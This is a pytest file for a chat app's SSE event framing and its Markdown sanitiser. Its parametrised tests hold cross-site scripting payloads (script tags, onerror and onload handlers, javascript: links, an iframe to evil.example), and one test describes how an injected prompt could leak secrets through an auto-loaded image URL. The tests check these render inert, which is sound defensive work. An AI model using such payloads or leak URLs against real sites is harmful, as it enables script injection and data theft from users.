"""SSE framing and the Markdown sanitiser."""

from __future__ import annotations

import json

import pytest

from core.rendering import markdown_to_safe_html
from core.sse import sse_comment, sse_event
from tests.html_checks import dangerous_markup


def test_sse_event_has_id_event_and_one_json_data_line():
    raw = sse_event("token", {"text": "line one\nline two"}, 7)
    text = raw.decode("utf-8")
    assert text.endswith("\n\n")
    lines = text.rstrip("\n").split("\n")
    assert lines[0] == "id: 7"
    assert lines[1] == "event: token"
    assert len(lines) == 3 and lines[2].startswith("data: ")
    assert json.loads(lines[2][6:]) == {"text": "line one\nline two"}


def test_sse_payload_is_real_utf8_not_escapes():
    """PF-S2: emoji and CJK travel as UTF-8 bytes; the payload is valid UTF-8 JSON."""
    raw = sse_event("token", {"text": "你好 🙂 café"})
    assert "你好 🙂 café".encode() in raw
    data = raw.decode("utf-8").split("data: ", 1)[1].strip()
    assert json.loads(data)["text"] == "你好 🙂 café"
    assert "\ufffd" not in raw.decode("utf-8")


def test_sse_comment_is_ignored_by_parsers():
    assert sse_comment("keep-alive") == b": keep-alive\n\n"


@pytest.mark.parametrize(
    "hostile",
    [
        "<script>alert(1)</script>",
        '<img src=x onerror="alert(1)">',
        "[click](javascript:alert(1))",
        '<svg onload="alert(1)"><circle/></svg>',
        '<a href="javascript:alert(1)">x</a>',
        "![x](javascript:alert(1))",
        '<iframe src="https://evil.example"></iframe>',
    ],
)
def test_model_output_renders_inert(hostile):
    """PF-X1: no script element, event handler or javascript: URL survives rendering."""
    html = markdown_to_safe_html(f"Here you go: {hostile}")
    assert dangerous_markup(html) == []
    assert "Here you go" in html


def test_dangerous_markup_detector_finds_each_kind():
    """The checker above must be able to fail."""
    found = dangerous_markup(
        '<script>x</script><img src=x onerror="y"><a href=" JavaScript:z">a</a><svg onload=1>'
    )
    assert len(found) == 5


def test_markdown_is_rendered():
    html = markdown_to_safe_html("**bold** and `code`\n\n- a\n- b\n\n[site](https://example.com)")
    assert "<strong>bold</strong>" in html
    assert "<code>code</code>" in html
    assert "<li>a</li>" in html
    assert 'href="https://example.com"' in html
    assert "noopener" in html


def test_images_in_answers_become_links_and_are_never_loaded():
    """An image URL in model output would be fetched by the browser on its own, leaking
    whatever an injected prompt put in it; it renders as a link instead."""
    html = markdown_to_safe_html("![chart](https://evil.example/x.png?c=secret)")
    assert "<img" not in html
    assert '<a href="https://evil.example/x.png?c=secret"' in html and ">chart</a>" in html


def test_single_line_breaks_in_answers_are_kept():
    """A poem's lines stay on separate lines after rendering (the stream shows them so too)."""
    html = markdown_to_safe_html("Roses are red,\nviolets are blue")
    assert "Roses are red,<br" in html


def test_fenced_code_keeps_its_language_for_the_highlighter_and_label():
    """Given a ```python fence, when rendered, then its <code> says language-python (what the
    page's highlighter and language label read; static/chat/render.js)."""
    html = markdown_to_safe_html("```python\nprint(1)\n```")
    assert '<pre><code class="language-python">print(1)' in html


@pytest.mark.parametrize(
    "info", ['"><img src=x onerror=alert(1)>', "c<x>", "a" * 41]
)
def test_a_fence_language_that_is_not_a_plain_name_keeps_no_class(info):
    """Given a fence whose language is markup, odd characters or over 40 characters, when
    rendered, then its <code> has no class at all (nothing but a plain name gets through)."""
    html = markdown_to_safe_html(f"```{info}\nx\n```")
    assert "<pre><code>x" in html
    assert "class=" not in html and dangerous_markup(html) == []


def test_classes_other_than_a_fence_language_are_dropped():
    """Only <code> may carry a class, and only a language: markdown-it's table alignment
    style and any other attribute are removed."""
    html = markdown_to_safe_html("| a |\n|--:|\n| b |")
    assert "<td>b</td>" in html and "style" not in html and "class" not in html


def test_strikethrough_is_kept():
    """~~text~~ (markdown-it renders <s>) stays struck through after sanitising."""
    assert "<s>gone</s>" in markdown_to_safe_html("~~gone~~")
